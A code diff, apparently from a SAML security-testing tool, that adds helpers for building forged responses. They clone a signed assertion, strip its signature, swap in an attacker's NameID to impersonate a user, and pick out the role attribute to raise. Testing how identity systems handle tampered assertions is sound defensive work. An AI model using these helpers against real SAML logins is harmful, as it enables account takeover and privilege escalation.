@@ -1,6 +1,6 @@
 import { randomBytes } from 'node:crypto';
 import type { ResponseInput, SigningChoice } from '../profiles/profile.js';
-import { NS, all, assertionOf, base64, child, parseXml, resign, setText } from './dom.js';
+import { NS, all, assertionOf, base64, child, children, parseXml, resign, setText } from './dom.js';
 import type { MutatedResponse, MutationContext } from './types.js';
 
 /** Mutations work on plain assertions: encryption is left out of every build they make. */
@@ -35,6 +35,36 @@ export const freshId = (): string => '_evil' + randomBytes(10).toString('hex');
 
 export const asDelivery = (xml: string): MutatedResponse => ({ samlResponse: base64(xml), xml });
 
+/** The vendor's response with only the Assertion signed, parsed, with that Assertion and its Signature. */
+export function signedAssertion(ctx: MutationContext): {
+  doc: Document;
+  assertion: Element;
+  signature: Element;
+} {
+  const doc = parseXml(ctx.build(ASSERTION_ONLY));
+  const assertion = assertionOf(doc);
+  return { doc, assertion, signature: children(assertion, NS.DS, 'Signature')[0]! };
+}
+
+/** The role attribute an attacker would raise (an app's `…_role` first), else the first attribute. */
+export function targetAttribute(doc: Document): Element {
+  const attrs = all(assertionOf(doc), NS.SAML, 'Attribute');
+  const named = (re: RegExp) => attrs.find((a) => re.test(a.getAttribute('Name') ?? ''));
+  const hit = named(/_role$/i) ?? named(/role/i) ?? attrs[0];
+  if (!hit) throw new Error('the response carries no attribute to tamper with');
+  return hit;
+}
+
+/** The assertion's Subject NameID. */
+export const subjectNameId = (assertion: Element): Element =>
+  child(child(assertion, NS.SAML, 'Subject'), NS.SAML, 'NameID');
+
+/** Gives the assertion, in place, the attacker's NameID (`evilNameId` of the one it had). */
+export function impersonate(assertion: Element): void {
+  const el = subjectNameId(assertion);
+  setText(el, evilNameId(el.textContent ?? ''));
+}
+
 /** Turns a copy of a signed assertion into the attacker's: new ID, the attacker's NameID, no signature. */
 export function makeEvil(assertion: Element, nameId: string, keepId = false): Element {
   const evil = assertion.cloneNode(true) as Element;
@@ -42,7 +72,7 @@ export function makeEvil(assertion: Element, nameId: string, keepId = false): El
   for (const s of Array.from(evil.childNodes)) {
     if (s.nodeType === 1 && (s as Element).namespaceURI === NS.DS) evil.removeChild(s);
   }
-  setText(child(child(evil, NS.SAML, 'Subject'), NS.SAML, 'NameID'), evilNameId(nameId));
+  setText(subjectNameId(evil), evilNameId(nameId));
   return evil;
 }
 
